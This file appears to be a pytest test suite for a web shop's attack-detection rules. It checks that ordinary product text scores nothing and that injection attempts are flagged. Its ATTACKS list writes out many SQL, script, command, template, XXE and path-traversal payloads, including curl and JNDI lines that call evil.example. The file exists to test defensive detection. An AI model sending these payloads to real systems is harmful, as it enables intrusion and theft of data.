"""The rules find attacks and leave odd but honest text alone."""

import time

import pytest

from security.domain.rules import (
    EXPLANATIONS,
    MOST_JUDGED,
    ORDINARY,
    SCANNER_AGENT,
    SCANNER_PATH,
    TEXT_RULES,
    Seen,
    explanation,
    judge,
)

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
HONEST = [
    "O'Brien & Sons",
    "L'Oréal",
    "Levi's 501 'Original'",
    "'40s tea dress -- blue",
    "Rock 'n' roll -- vinyl reissue",
    "D'Arcy's \"best\" mug",
    "c/o J. Smith, 'The Laurels' -- ring twice",
    "O'Neill's Pub, 12/14 Main St.; Flat #3",
    "dogs' # 1 lead",
    "mother's day # gift ideas for mum",
    "Ben's or Jerry's = best?",
    "boys' or girls' like new",
    "x' and y' = z'",
    "select a union jack mug",
    "union select committee minutes",
    "SELECT your size FROM the list",
    "select * from menu",
    "drop table lamp",
    "drop leaf table; oak",
    "insert into drawer dividers",
    "order by phone",
    "case when travelling then small",
    "buy 1 or 2 = save 10%",
    "2 for 1 and free delivery",
    "7 and 7 = 7",
    "sleep (well) pillow",
    "benchmark 3.5 torque wrench",
    "javascript: the good parts",
    "script font stencil",
    "alert (siren) 12v",
    "confirm(ed) booking",
    "on error goto 10 retro shirt",
    "<3 love mug",
    "size < 40",
    "<b>bold</b>",
    "100% cotton",
    "50% off (or more)",
    "{{name}} template stickers",
    "${price} tag",
    "cat & dog bowl",
    "salt & pepper; set of 2",
    "ping pong -- bats",
    "; whoami t-shirt",
    "Tom & Jerry's; cat toy",
    "id & passport holder",
    "etc/hosts",
    "wait...",
    "https://shop.example/product/mug?colour=moss",
    "5'4\" x 6'2\" rug",
    "AC/DC",
    "日本語のマグ",
    "null",
    "'",
    "--",
    "\\",
]
ATTACKS = [
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%2f..%2fwin.ini"),
    ("path_traversal", "php://filter/convert.base64-encode/resource=index"),
    ("sql_injection", "1' or '1'='1"),
    ("sql_injection", "1 or 1=1"),
    ("sql_injection", "admin'--"),
    ("sql_injection", "x' union select null,null,null -- "),
    ("sql_injection", "1/**/union/**/all/**/select/**/1,2"),
    ("sql_injection", "1; drop table users"),
    ("sql_injection", "1' and sleep(5)#"),
    ("sql_injection", "1);waitfor delay '0:0:5'--"),
    ("sql_injection", "-1 union select table_name from information_schema.tables"),
    ("script_injection", "<script>alert(1)</script>"),
    ("script_injection", '"><img src=x onerror=alert(1)>'),
    ("script_injection", "<svg/onload=confirm`1`>"),
    ("script_injection", "javascript:alert(document.cookie)"),
    ("script_injection", "data:text/html;base64,PHNjcmlwdD4="),
    ("command_injection", "; cat /etc/hostname"),
    ("command_injection", "| whoami"),
    ("command_injection", "$(curl http://evil.example/x)"),
    ("command_injection", "a;/bin/bash -c id"),
    ("template_injection", "${jndi:ldap://evil.example/a}"),
    ("template_injection", "{{7*7}}"),
    ("template_injection", "{% import os %}"),
    ("markup_injection", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ("markup_injection", "*)(uid=*"),
    ("control_characters", "mug\x00.png"),
    ("control_characters", "en\r\nSet-Cookie: admin=1"),
]
# What backtracking matchers choke on, again and again until the rules' limit.
REPEATED = [
    "'", '"', " ", "\n", "\r\n", "\t", "(", ")", "')", "a=", "' or ", "'or a", "1 and ", "1) or (",
    "union ", "union/**/", "union /*", "/*", "select ", "select a from ", "case when ", "' ;", "<", "<a ",
    "<a/ ", "<!", '<svg " ', "{{", "{{a", "${", "#{", "{%", "%", "<% ", "..", "/./", "*)(", "__", "javascript:",
    " data:", '"on', "onx", "; ", "&", "|", "$(", "() {", "and(", "or((((", "sleep (", "0 ", "%2e", "a", "0",
]  # fmt: skip


def search_for(text: str, **others) -> Seen:
    return Seen(
        **{
            "method": "GET",
            "path": "/search",
            "raw": "",
            "values": [text],
            "agent": FIREFOX,
            **others,
        }
    )


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_scores_nothing(text):
    assert judge(search_for(text)) == ORDINARY


@pytest.mark.parametrize(("rule", "text"), ATTACKS)
def test_an_attack_is_named_and_scores_high(rule, text):
    verdict = judge(search_for(text))

    assert rule in verdict.reasons
    assert verdict.score >= 60


@pytest.mark.parametrize(
    "path", ["/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/", "/backup.sql", "/a/b.jsp"]
)
def test_what_only_scanners_look_for_is_found_by_its_path(path):
    assert judge(search_for("", path=path)).reasons == ("scanner_path",)


@pytest.mark.parametrize(
    "path",
    ["/", "/product/druid-staff", "/product/telescope", "/category/console-tables", "/api/v1/products",
     "/static/css/shop.css", "/admin/catalog/product/", "/robots.txt", "/.well-known/security.txt"],
)  # fmt: skip
def test_paths_of_a_shop_are_ordinary(path):
    assert judge(search_for("", path=path)) == ORDINARY


@pytest.mark.parametrize(
    ("others", "reason"),
    [
        ({"method": "PROPFIND"}, "odd_method"),
        ({"path": "/" + "a" * 900}, "oversized"),
        ({"values": ["a" * 1001]}, "oversized"),
        ({"values": ["a"] * 61}, "oversized"),
        ({"agent": ""}, "no_agent"),
        ({"agent": "sqlmap/1.8"}, "scanner_agent"),
        ({"raw": "q=%252e%252e%252f"}, "double_escaped"),
    ],
)
def test_an_odd_form_is_named(others, reason):
    assert judge(search_for("", **others)).reasons == (reason,)


def test_several_reasons_add_up_to_at_most_a_hundred():
    verdict = judge(search_for("' or '1'='1 <script>", agent="sqlmap"))

    assert verdict.score == 100
    assert set(verdict.reasons) == {"sql_injection", "script_injection", "scanner_agent"}


@pytest.mark.parametrize("piece", REPEATED)
def test_no_text_makes_a_rule_slow(piece):
    def seconds(length: int) -> float:
        text = (piece * (length // len(piece) + 1))[:length]
        started = time.process_time()
        for rule in (*TEXT_RULES, SCANNER_PATH, SCANNER_AGENT):
            rule.pattern.search(text)
        return time.process_time() - started

    # A pattern that backtracks without bound needs seconds here.
    assert min(seconds(MOST_JUDGED) for _ in range(3)) < 0.15


def test_only_so_much_text_is_judged_however_many_parameters_come():
    texts = ["' " * 500] * 60
    started = time.process_time()

    judge(search_for("", values=texts))

    assert time.process_time() - started < 0.15


def test_every_reason_has_words_for_people():
    assert all(explanation(name) != name for name in EXPLANATIONS)
    assert explanation("from_a_former_version") == "from_a_former_version"
